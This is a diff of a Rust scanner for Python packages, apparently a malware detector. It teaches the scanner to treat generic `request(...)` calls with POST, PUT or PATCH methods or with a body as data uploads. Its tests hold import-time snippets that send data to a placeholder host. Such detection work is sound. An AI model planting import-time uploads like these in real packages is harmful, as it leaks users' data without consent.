@@ -119,12 +119,36 @@ fn has_constant_host(url: &str) -> bool {
     host.contains('.') && !host.contains(crate::fold::UNKNOWN)
 }
 
-/// The argument naming where a network call goes: the first, or `url=`.
+/// The argument naming where a network call goes: the first, or `url=`; for the generic
+/// `request(method, url, ...)` of HTTP clients, the second.
 pub fn target_arg(call: &ExprCall) -> Option<&ruff_python_ast::Expr> {
+    let positional = if is_generic_request(call) { 1 } else { 0 };
+    call.arguments
+        .args
+        .get(positional)
+        .or_else(|| super::keyword(call, "url"))
+}
+
+/// `x.request(...)`: the HTTP clients' call that takes the method as an argument.
+fn is_generic_request(call: &ExprCall) -> bool {
+    matches!(&*call.func, ruff_python_ast::Expr::Attribute(a) if a.attr.as_str() == "request")
+}
+
+/// True when a generic `request(...)` uploads: its method (first argument or `method=`) is
+/// POST, PUT or PATCH, or it carries a body (`data=`, `json=`, `files=`).
+fn request_uploads(checker: &Checker, call: &ExprCall) -> bool {
+    if ["data", "json", "files"]
+        .iter()
+        .any(|k| super::keyword(call, k).is_some())
+    {
+        return true;
+    }
     call.arguments
         .args
         .first()
-        .or_else(|| super::keyword(call, "url"))
+        .or_else(|| super::keyword(call, "method"))
+        .and_then(|m| checker.scopes.fold_str(m))
+        .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH"))
 }
 
 /// What a network call does.
@@ -140,9 +164,16 @@ pub enum NetOp {
 
 /// Network calls.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
-    let Some(op) = classify(qualname) else {
+    let Some(mut op) = classify(qualname) else {
         return;
     };
+    if op == NetOp::Fetch
+        && qualname.ends_with(".request")
+        && is_generic_request(call)
+        && request_uploads(checker, call)
+    {
+        op = NetOp::Send;
+    }
     let context = checker.context();
     // Droppers contact a fixed address; build scripts download from URLs they compute from
     // versions and platforms, so a computed target at install time weighs less.
@@ -332,6 +363,41 @@ mod tests {
                 "{registration}"
             );
         }
+    }
+
+    #[test]
+    fn generic_requests_with_a_body_or_an_upload_method_send() {
+        let sends = |code: &str| {
+            crate::rules::testing::findings("p/pkg/__init__.py", code)
+                .iter()
+                .any(|f| f.rule == "WH130" && f.message.starts_with("sends data"))
+        };
+        assert!(sends(
+            "import requests\nrequests.request('POST', 'https://c.example.invalid/', data=b'x')\n"
+        ));
+        assert!(sends(
+            "import requests\nrequests.Session().request(url='https://c.example.invalid/', method='put')\n"
+        ));
+        // A vendored copy of requests is requests.
+        assert!(sends(
+            "from sdk.vendored.requests import Session\nSession().request(url='https://c.example.invalid/', method='GET', json={'k': 1})\n"
+        ));
+        assert!(!sends(
+            "import requests\nrequests.request('GET', 'https://c.example.invalid/')\n"
+        ));
+        // The URL of `request(method, url)` is its second argument: a computed one weighs
+        // less at import time than a constant address, whatever the constant method.
+        let computed = max_severity(
+            "p/pkg/__init__.py",
+            "import requests, sys\nrequests.request('GET', sys.argv[1])\n",
+            "WH130",
+        );
+        let constant = max_severity(
+            "p/pkg/__init__.py",
+            "import requests\nrequests.request('GET', 'https://c.example.invalid/')\n",
+            "WH130",
+        );
+        assert!(computed < constant, "{computed} {constant}");
     }
 
     #[test]
